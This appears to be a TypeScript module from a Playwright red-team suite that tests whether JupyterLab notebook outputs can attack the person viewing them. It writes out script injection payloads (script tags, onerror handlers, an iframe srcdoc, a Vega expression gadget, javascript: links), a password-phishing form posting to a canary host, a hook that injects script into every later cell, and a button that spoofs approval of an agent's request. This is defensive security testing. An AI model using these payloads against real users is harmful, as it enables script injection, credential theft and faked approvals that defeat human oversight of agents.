/** What a kernel may emit to get at the person who looks at it. */

import type { Page, TestDetails } from '@playwright/test';

import type { Canary } from './canary';

export type Bundle = Record<string, unknown>;

export interface Attack {
  id: string;
  sentence: string;
  /**
   * @param name - What success goes by: somebody is asked for a file of this name, an element of the page has it as its
   * title or as an argument of its command, or the page's body as a data attribute.
   */
  bundle(name: string, canary: string): Bundle;
  /** What the control shows instead, where JupyterLab itself stands against the attack. */
  planted?(name: string): Bundle;
}

/** Puts an attempt into the table of the red-team suite. */
export function attempt(id: string, sentence: string): TestDetails {
  const group = "the researcher's browser";
  const description = JSON.stringify({ id, group, sentence });
  return { annotation: { type: 'redteam', description } };
}

/** A cell that shows each of these, one after the other. */
export function showing(bundles: Bundle[]): string {
  const text = Buffer.from(JSON.stringify(bundles)).toString('base64');
  return [
    'import base64, json',
    'from IPython.display import publish_display_data',
    `for bundle in json.loads(base64.b64decode("${text}")):`,
    '    publish_display_data(bundle)'
  ].join('\n');
}

/** A cell after which every other one shows a script, whoever runs it. */
export function hooking(script: string): string {
  const bundle = { 'text/html': `<script>${script}</script>shown` };
  return [
    'from IPython.display import publish_display_data',
    `show = lambda *_: publish_display_data(${JSON.stringify(bundle)})`,
    "get_ipython().events.register('post_run_cell', show)"
  ].join('\n');
}

const VEGALITE = 'application/vnd.vegalite.v5+json';

function html(text: string): Bundle {
  return { 'text/html': text };
}

function chart(data: object, more: object = {}): Bundle {
  const encoding = { x: { field: 'a', type: 'quantitative' } };
  return { [VEGALITE]: { data, mark: 'point', encoding, ...more } };
}

function button(command: string, name: string): string {
  return `<button data-commandlinker-command="${command}" data-commandlinker-args='{"n":"${name}"}'>x</button>`;
}

/** A chart whose expression calls a function of the page when the mouse moves, and whose mark links to a script. */
function expressing(name: string): Bundle {
  const call = `vlSelectionTuples([{datum: "${ran(name)}"}], {fields: [{getter: event.view.setTimeout}]})`;
  return {
    'application/vnd.vega.v5+json': {
      width: 60,
      height: 60,
      signals: [
        {
          name: 'moved',
          value: 0,
          on: [{ events: 'window:mousemove', update: call }]
        }
      ],
      marks: [
        {
          type: 'rect',
          encode: {
            enter: {
              width: { value: 60 },
              height: { value: 60 },
              href: { value: `javascript:${name}` },
              tooltip: { value: `<img src="data:," onerror="${ran(name)}">` }
            }
          }
        }
      ]
    }
  };
}

export const ran = (name: string): string => `document.body.dataset.${name}=1`;

const LOADING: [string, string, (url: string) => Bundle][] = [
  ['F11i', 'a picture', url => html(`<img src="${url}">`)],
  ['F11a', 'a sound', url => html(`<audio src="${url}" autoplay></audio>`)],
  ['F11v', "a film's picture", url => html(`<video poster="${url}"></video>`)],
  [
    'F11c',
    'a background',
    url => html(`<p style="background: url(${url})">x</p>`)
  ],
  [
    'F11m',
    'a picture in Markdown',
    url => ({ 'text/markdown': `![](${url})` })
  ],
  [
    'F11d',
    'a picture in a diagram',
    url => ({
      'text/markdown': `\`\`\`mermaid\nflowchart TD\nA@{ img: "${url}", w: 60, h: 60 }\n\`\`\``
    })
  ]
];

export const ATTACKS: Attack[] = [
  {
    id: 'F1',
    sentence: "a chart fetches a file of Lab's server with the person's rights",
    bundle: name => chart({ url: `/files/${name}`, format: { type: 'csv' } })
  },
  {
    id: 'F2',
    sentence: 'a chart asks another host, with an address that it has made',
    bundle: (name, canary) =>
      chart({ url: `${canary}/${name}`, format: { type: 'csv' } })
  },
  {
    id: 'F3',
    sentence: "a chart brings a menu, with HTML for the menu's pages",
    bundle: name =>
      chart(
        { values: [{ a: 1 }] },
        {
          usermeta: {
            embedOptions: {
              sourceHeader: `<script>${ran(name)}</script>`,
              i18n: { CLICK_TO_VIEW_ACTIONS: name }
            }
          }
        }
      )
  },
  {
    id: 'F4s',
    sentence: 'a script in the HTML of a cell that the person has run',
    bundle: name => html(`<script>${ran(name)}</script>`)
  },
  {
    id: 'F4e',
    sentence: 'a handler in the HTML of a cell that the person has run',
    bundle: name => html(`<img src="data:," onerror="${ran(name)}">`)
  },
  {
    id: 'F6',
    sentence: 'a button in Markdown that approves what the agent has asked for',
    bundle: name => ({ 'text/markdown': button('interp-bench:approve', name) }),
    planted: name => html(button('interp-bench:approve', name))
  },
  {
    id: 'F6b',
    sentence: "a button that runs one of Lab's commands",
    bundle: name => html(button('application:toggle-mode', name))
  },
  {
    id: 'F7f',
    sentence: 'a frame with a page of its own runs a script in this one',
    bundle: name =>
      html(`<iframe srcdoc="<script>parent.${ran(name)}</script>"></iframe>`)
  },
  {
    id: 'F7j',
    sentence: 'an output is JavaScript',
    bundle: name => ({ 'application/javascript': ran(name) })
  },
  {
    id: 'F8',
    sentence: 'a link in Markdown runs a script when it is clicked',
    bundle: name => ({ 'text/markdown': `<a href="javascript:${name}">x</a>` })
  },
  {
    id: 'F9',
    sentence: "a chart's expressions, links and tooltips run a script",
    bundle: name => expressing(name),
    planted: name => html(`<script>${ran(name)}</script>`)
  },
  {
    id: 'F12',
    sentence:
      "an address of Lab's server is asked for with the person's rights",
    bundle: name => html(`<img src="/static/favicons/x?${name}">`)
  },
  {
    id: 'F13',
    sentence: 'a form asks the person for a password',
    bundle: (name, canary) =>
      html(
        `<form action="${canary}/${name}"><input type="password" name="p"></form>`
      )
  },
  ...LOADING.map(([id, what, make]) => ({
    id,
    sentence: `another host is asked for ${what}`,
    bundle: (name: string, canary: string) => make(`${canary}/${name}`)
  }))
];

/** What has happened to a page by attacks that go by a name. */
export class Watched {
  constructor(
    readonly page: Page,
    private readonly canary: Canary
  ) {
    page.on('request', request => this.requested.push(request.url()));
  }

  async happened(name: string): Promise<boolean> {
    return (
      this.canary.asked.has(name) ||
      this.requested.some(
        url => url.includes(`/files/${name}`) || url.endsWith(`?${name}`)
      ) ||
      this.page.evaluate(
        name =>
          name in document.body.dataset ||
          document.querySelector(
            `[title="${name}"], [data-commandlinker-args*="${name}"], a[href="javascript:${name}"], form[action$="/${name}"]`
          ) !== null,
        name
      )
    );
  }

  private readonly requested: string[] = [];
}
